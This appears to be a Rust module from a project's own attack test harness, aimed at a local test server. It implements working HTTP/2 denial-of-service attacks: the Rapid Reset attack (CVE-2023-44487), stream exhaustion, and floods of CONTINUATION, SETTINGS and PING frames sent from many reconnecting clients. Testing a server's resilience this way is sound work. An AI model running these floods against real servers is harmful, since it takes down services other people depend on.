//! Abuse of HTTP/2: resets, streams, and floods of frames that cost the client nothing.
//!
//! A client whose connection is closed opens another one, until the time is over.

use std::sync::Arc;
use std::time::Instant;

use bytes::Bytes;
use futures::future::join_all;
use h2::Reason;
use h2::client::SendRequest;
use rustls::pki_types::pem::PemObject as _;
use rustls::pki_types::{CertificateDer, ServerName};
use rustls::{ClientConfig, RootCertStore};
use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;
use tokio_tungstenite::tungstenite::http::Request;

use crate::attack::Target;

/// Clients that attack at the same time.
const CLIENTS: usize = 8;
/// Connections that are full of streams. Together, they have more requests than a project may have at once.
const FULL_CONNECTIONS: usize = 64;

/// Types of frames, by RFC 9113.
const HEADERS: u8 = 0x1;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const CONTINUATION: u8 = 0x9;

/// What one client did until the time was over.
#[derive(Default)]
struct Deeds {
    connections: usize,
    frames: usize,
}

/// CVE-2023-44487: each request is reset before it is answered.
pub(crate) async fn resets(target: &Target) -> String {
    let one = async || {
        let mut deeds = Deeds::default();
        let started = Instant::now();
        while started.elapsed() < target.hold {
            let Some(requests) = connect(target).await else { continue };
            deeds.connections += 1;
            while started.elapsed() < target.hold {
                let Ok(mut ready) = requests.clone().ready().await else { break };
                let Ok((_, mut stream)) = ready.send_request(request(target, "GET", "/stats/dau"), true) else { break };
                stream.send_reset(Reason::CANCEL);
                deeds.frames += 1;
                tokio::task::yield_now().await;
            }
        }
        deeds
    };
    told("resets", &join_all((0..CLIENTS).map(|_| one())).await)
}

/// Each stream is a request whose body is waited for.
pub(crate) async fn streams(target: &Target) -> String {
    let one = async || {
        let (mut answered, mut open) = (0, Vec::new());
        let Some(requests) = connect(target).await else { return (0, 0) };
        let opening = async {
            // The server says how many it allows. Then this waits until one ends.
            while let Ok(mut ready) = requests.clone().ready().await {
                let Ok((answer, body)) = ready.send_request(request(target, "POST", "/events"), false) else { break };
                open.push(body);
                let answer = tokio::time::timeout(std::time::Duration::from_millis(50), answer).await;
                answered += usize::from(answer.is_ok());
            }
        };
        let _ = tokio::time::timeout(target.hold, opening).await;
        (open.len(), answered)
    };
    let counts = join_all((0..FULL_CONNECTIONS).map(|_| one())).await;
    let sum = |field: fn(&(usize, usize)) -> usize| counts.iter().map(field).sum::<usize>();
    format!("{FULL_CONNECTIONS} connections opened {} streams, of which {} were answered", sum(|it| it.0), sum(|it| it.1))
}

/// A head of as many CONTINUATION frames as the server takes.
pub(crate) async fn heads(target: &Target) -> String {
    // :method GET, :scheme https, :path /, and as authority "x".
    let begin = frame(HEADERS, 0, 1, &[0x82, 0x87, 0x84, 0x41, 1, b'x']);
    let field = [&[0x00, 1, b'x', 100][..], &[b'v'; 100]].concat();
    let more = frame(CONTINUATION, 0, 1, &field.repeat(150));
    flood(target, "frames", &begin, &more).await
}

/// Each SETTINGS frame must be acknowledged.
pub(crate) async fn settings(target: &Target) -> String {
    // SETTINGS_MAX_FRAME_SIZE of 16,384, as it is anyway.
    let one = frame(SETTINGS, 0, 0, &[0, 5, 0, 0, 0x40, 0]);
    flood(target, "frames", &[], &one).await
}

/// Each PING frame must be answered.
pub(crate) async fn pings(target: &Target) -> String {
    flood(target, "frames", &[], &frame(PING, 0, 0, &[7; 8])).await
}

/// Sends the same frame on and on, and reads nothing.
async fn flood(target: &Target, what: &str, begin: &[u8], frame: &[u8]) -> String {
    let one = async || {
        let mut deeds = Deeds::default();
        let flooding = async {
            loop {
                let Some(mut stream) = tls(target).await else { continue };
                deeds.connections += 1;
                let preface = [&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &self::frame(SETTINGS, 0, 0, &[]), begin].concat();
                if stream.write_all(&preface).await.is_err() {
                    continue;
                }
                while stream.write_all(frame).await.is_ok() {
                    deeds.frames += 1;
                }
            }
        };
        let _: Result<(), _> = tokio::time::timeout(target.hold, flooding).await;
        deeds
    };
    told(what, &join_all((0..CLIENTS).map(|_| one())).await)
}

fn told(what: &str, deeds: &[Deeds]) -> String {
    let (connections, frames) = deeds.iter().fold((0, 0), |sum, deeds| (sum.0 + deeds.connections, sum.1 + deeds.frames));
    format!("{frames} {what} on {connections} connections")
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a short frame").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

fn request(target: &Target, method: &str, path: &str) -> Request<()> {
    let request = Request::builder().method(method).uri(format!("{}{path}", target.url)).header("x-api-key", &target.other_key);
    request.header("content-type", "application/json").body(()).expect("a request")
}

async fn connect(target: &Target) -> Option<SendRequest<Bytes>> {
    let (requests, connection) = h2::client::handshake(tls(target).await?).await.ok()?;
    tokio::spawn(connection);
    Some(requests)
}

async fn tls(target: &Target) -> Option<TlsStream<TcpStream>> {
    let mut roots = RootCertStore::empty();
    roots.add(CertificateDer::from_pem_slice(target.authority.pem().as_bytes()).expect("PEM")).expect("a certificate");
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let builder = ClientConfig::builder_with_provider(provider).with_safe_default_protocol_versions().expect("versions");
    let mut config = builder.with_root_certificates(roots).with_no_client_auth();
    config.alpn_protocols = vec![b"h2".to_vec()];
    let stream = TcpStream::connect(target.url.trim_start_matches("https://")).await.ok()?;
    TlsConnector::from(Arc::new(config)).connect(ServerName::try_from("127.0.0.1").expect("a name"), stream).await.ok()
}
